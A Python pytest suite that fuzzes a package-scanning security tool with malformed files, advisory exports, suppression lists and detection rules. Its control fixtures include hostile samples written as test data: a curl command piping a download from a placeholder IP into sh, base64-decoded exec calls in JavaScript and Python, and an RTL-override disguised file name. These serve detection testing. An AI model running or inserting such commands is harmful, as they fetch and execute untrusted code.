"""Broken executables, documents, manifests, archives and databases: every check ends, what failed names the file.

The inputs are drawn from fixed numbers; `pytest -m bench tests/benchmarks/bench_fuzz.py` draws fresh ones for longer.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from random import Random

import pytest

from app.errors import DeskError
from app.paths import Folders
from app.similar_lists import import_list
from app.suppressions import write_suppressions
from checks import Outcome
from checks.runtime.suppression_file import BadFile, parse_suppressions
from tests.app.conftest import Engine
from tests.hostile.fuzzing import Files, as_artifact, deep_seeds, draw, mutate, osv_export, seeds, together
from tests.hostile.support import WholeBattery, assert_complete, failures, found_in

pytestmark = [pytest.mark.needs("linux"), pytest.mark.timeout(300)]

PACKAGES = 60
# Submissions of their own: as many as fit into the time, but the least whatever it takes.
ARTIFACTS, LEAST, SECONDS = 16, 5, 8.0

FORMATS = frozenset({
    "exe", "dll", "msi", "doc", "xls", "xlsm", "pdf", "lnk", "rtf", "jar", "apk", "crx", "xpi", "whl", "deb", "rpm",
    "nupkg", "vsix", "tgz", "json", "lock", "xml", "js", "py", "sh", "ps1", "php", "java",
})  # fmt: skip

# What is whole has to be found as if nothing broken lay beside it.
CONTROLS: Files = {
    "a.js": b"const { exec } = require('child_process');\nexec(Buffer.from(process.argv[2], 'base64').toString());\n",
    "b.py": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "c.txt": "pay \N{RIGHT-TO-LEFT OVERRIDE}gpj.exe\n".encode(),
    "d.sh": b"curl -s http://192.0.2.9/x | sh\n",
}


@pytest.fixture
def battery(engine: Engine) -> WholeBattery:
    return WholeBattery(engine)


def control(battery: WholeBattery) -> object:
    """What checks of single files say of the controls when they are alone."""
    result = battery.run(*as_artifact({f"controls/{path}": data for path, data in CONTROLS.items()}))
    found = found_in(result, "controls/", battery.catalog)
    assert {path for _, _, path in found} == set(CONTROLS), found
    return found


def test_seeds_are_of_every_format() -> None:
    """A battery over nothing would pass as well."""
    names = {path.rpartition(".")[2].lower() for files in seeds() for path in files}
    assert names >= FORMATS, sorted(FORMATS - names)
    starts = {data[:4] for files in seeds() for data in files.values()}
    assert {b"\x7fELF", b"\xcf\xfa\xed\xfe", b"\xd0\xcf\x11\xe0", b"Cr24", b"%PDF"} <= starts
    assert len(seeds()) > 300


def test_a_package_of_many_broken_files(battery: WholeBattery) -> None:
    """Each is looked at by the checks of its format; those that are whole are found as they are found alone."""
    expected = control(battery)
    random = Random(20)
    broken = [draw(random) for _ in range(PACKAGES)] + list(deep_seeds())
    files = together(broken)
    files |= {f"controls/{path}": data for path, data in CONTROLS.items()}
    result = battery.run("package.zip", as_artifact(files)[1])
    assert_complete(result, battery.catalog)
    assert not failures(result), failures(result)
    assert found_in(result, "controls/", battery.catalog) == expected


def test_broken_submissions(battery: WholeBattery) -> None:
    """One after the other, so that the checks of the whole package take each for what it says it is."""
    random = Random(21)
    began, families = time.monotonic(), set()
    chosen = [files for files in seeds() if next(iter(files)).startswith("artifact:")]
    for number in range(ARTIFACTS):
        if number >= LEAST and time.monotonic() - began > SECONDS:
            break
        files = random.choice(chosen)
        name, data = as_artifact({path: mutate(random, data) for path, data in files.items()})
        try:
            result = battery.run(name, data)
        except DeskError as problem:
            assert str(problem).startswith(name), problem
            continue
        families.add(name.rpartition(".")[2])
        assert_complete(result, battery.catalog)
        assert not failures(result), (number, name, failures(result))
    assert len(families) > 2


def test_a_parser_that_takes_its_worker_down_costs_one_check_on_one_file(engine: Engine) -> None:
    """As a library in machine code would do it, in a check of single files and in one of the whole package."""
    battery = WholeBattery(engine, "misbehave", "misbehave_package")
    expected = control(battery)
    files = {f"controls/{path}": data for path, data in CONTROLS.items()}
    files |= {"lib/evil.dll": b"MZ MISBEHAVE", "z.txt": b"z"}
    does = {"action": "abort"}
    result = battery.run("package.zip", as_artifact(files)[1], misbehave=does, misbehave_package=does)
    assert_complete(result, battery.catalog)
    assert {c.id for c in failures(result)} == {"misbehave", "misbehave_package"}
    for check in failures(result):
        assert check.outcome is Outcome.ERROR
        assert check.reason.startswith("not checked: lib/evil.dll: the worker ended by signal "), check
    found = found_in(result, "controls/", battery.catalog)
    assert found == expected
    assert {f.path for f in result.findings if f.check == "misbehave"} == {*files} - {"lib/evil.dll"}


# -- what the reviewer imports


def test_broken_advisory_exports(engine: Engine, tmp_path: Path) -> None:
    """Either what can be read is imported, or one line names the export; the database before it stays."""
    from app.advisories import AdvisoryError, database_path, describe_database, import_advisories
    from tests.hostile.fuzzing import advisories

    data = tmp_path / "data"
    random = Random(22)
    outcomes = set()
    for number in range(8):
        export = tmp_path / f"export{number}.zip"
        export.write_bytes(osv_export(random, advisories()))
        before = describe_database(database_path(data))
        try:
            summary = import_advisories(data, [export], engine.launcher())
        except AdvisoryError as problem:
            assert export.name in str(problem)
            assert describe_database(database_path(data)) == before
            outcomes.add("refused")
            continue
        assert summary.records > 0
        assert describe_database(database_path(data)) is not None
        outcomes.add("named" if summary.named else "whole")
    assert "named" in outcomes, "no record was broken in a whole export"
    assert "refused" in outcomes, "no export was broken"


def test_broken_lists(tmp_path: Path) -> None:
    """Suppressions, and lists of what was rejected elsewhere: read in part, or refused in one line."""
    from datetime import UTC, datetime

    from checks.runtime.suppression_file import Suppression

    random = Random(23)
    since = datetime(2025, 1, 1, tzinfo=UTC)
    said = Suppression("pdf_content", "launch", "a.pdf", "c" * 64, "accepted_risk", "Known", "Ana", since)
    good = [write_suppressions([said] * 3, form) for form in ("toml", "json")]
    good += [files[".assay.toml"] for files in seeds() if ".assay.toml" in files]
    read = refused = 0
    for _ in range(400):
        try:
            read += len(parse_suppressions(mutate(random, random.choice(good))).entries)
        except BadFile as problem:
            assert str(problem)
            refused += 1
    assert read
    assert refused
    folders = Folders(tmp_path / "data", tmp_path / "config", tmp_path / "cache", tmp_path / "run")
    rows = b"name,verdict,sha256\n" + b"one,bad,%s\n" % (b"a" * 64) * 3
    source = tmp_path / "feed.csv"
    for form in (rows, b'{"name": "a", "verdict": "bad", "sha256": "%s"}\n' % (b"b" * 64) * 3):
        for _ in range(40):
            source.write_bytes(mutate(random, form))
            try:
                import_list(source, folders)
            except DeskError as problem:
                assert "feed.csv" in str(problem)


YARA = b"""rule A : tag {
  meta: a = "b"
  strings: $a = "one" nocase $b = { 01 ?? [2-4] (03|04) } $c = /x{1,9}y/i
  condition: any of them
}
"""


def spoil_yara(random: Random) -> bytes:
    return mutate(random, YARA)


def spoil_toml(random: Random) -> bytes:
    rules = b'[[rule]]\nid = "a"\nlanguage = "python"\npattern = "eval($A)"\nmessage = "x"\nseverity = "high"\n'
    return mutate(random, rules)


@pytest.mark.parametrize(("suffix", "spoil"), [(".yar", spoil_yara), (".toml", spoil_toml)])
def test_broken_rules(tmp_path: Path, suffix: str, spoil: Callable[[Random], bytes]) -> None:
    """What does not compile is named by file; the whole rule beside it is taken."""
    from app.rules import RulesError, add_rules

    random = Random(24)
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "good.yar").write_bytes(b"rule Good { condition: filesize < 9 }\n")
    for number in range(6):
        (folder / f"broken{number}{suffix}").write_bytes(spoil(random))
    try:
        _, checked = add_rules(tmp_path / "own", folder)
    except RulesError as problem:
        pytest.fail(f"the good rule was not taken: {problem}")
    assert all(str(problem).startswith(("broken", "good")) for problem in checked.problems), checked.problems
